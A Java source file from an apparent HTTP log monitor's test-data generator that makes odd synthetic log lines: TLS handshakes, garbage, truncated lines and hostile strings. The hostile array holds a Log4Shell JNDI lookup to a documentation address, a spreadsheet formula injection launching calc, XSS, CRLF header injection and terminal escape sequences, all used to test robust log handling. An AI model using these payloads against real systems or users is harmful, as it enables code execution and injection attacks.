package httpmonitor.generate;

import httpmonitor.generate.site.Dice;
import httpmonitor.generate.site.Hit;

/**
 * The lines of real logs that are no requests: handshakes of TLS on a plain port, connections that ask nothing,
 * garbage, lines that a full disk cut off, and texts written to harm the reader of a log. No such line contains a line
 * feed.
 */
record OddLines(LogFormat format, Dice dice) {

    private static final String[] HOSTILE = {
        "\u001b[2J\u001b[1;1H\u001b[31mall is well",
        "\u001b]0;owned\u0007",
        "=cmd|' /C calc'!A0",
        "\\\"><script>alert(1)</script>",
        "${jndi:ldap://192.0.2.66/a}",
        "\u009b31m\u0000\b\b\b",
        "%0d%0aSet-Cookie:%20a=b",
        "\u00e2\u0080\u00aereversed",
        "@SUM(1+1)*cmd",
    };

    /** Appends an odd line without a newline; {@code hit} lends what is not odd about it. */
    void append(StringBuilder line, Hit hit, String time) {
        switch (dice.below(5)) {
            case 0 -> format.append(line, hit.with(handshake(), 400, 226), time);
            case 1 -> format.append(line, hit.with("-", 408, Hit.NO_BODY), time);
            case 2 -> garbage(line);
            case 3 -> truncated(line, hit, time);
            default -> format.append(line, hostile(hit), time);
        }
    }

    // Written as servers write it: bytes that cannot be printed are escaped.
    private String handshake() {
        StringBuilder request = new StringBuilder("\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xfc\\x03\\x03");
        for (int i = 0; i < 16; i++) {
            int value = 0x80 + dice.below(0x80);
            request.append("\\x").append(Integer.toHexString(value));
        }
        return request.toString();
    }

    private void garbage(StringBuilder line) {
        int length = 20 + dice.below(180);
        for (int i = 0; i < length; i++) {
            int value = dice.below(256);
            line.append(value == '\n' || value == '\r' ? '?' : (char) value);
        }
    }

    private void truncated(StringBuilder line, Hit hit, String time) {
        int start = line.length();
        format.append(line, hit, time);
        line.setLength(start + 1 + dice.below(line.length() - start - 1));
    }

    private Hit hostile(Hit hit) {
        String text = HOSTILE[dice.below(HOSTILE.length)];
        return dice.percent(50)
                ? hit.with("GET /" + text + " HTTP/1.1", 404, 196)
                : hit.with("GET / HTTP/1.1", 200, 24_000).claiming("https://" + text, text);
    }
}
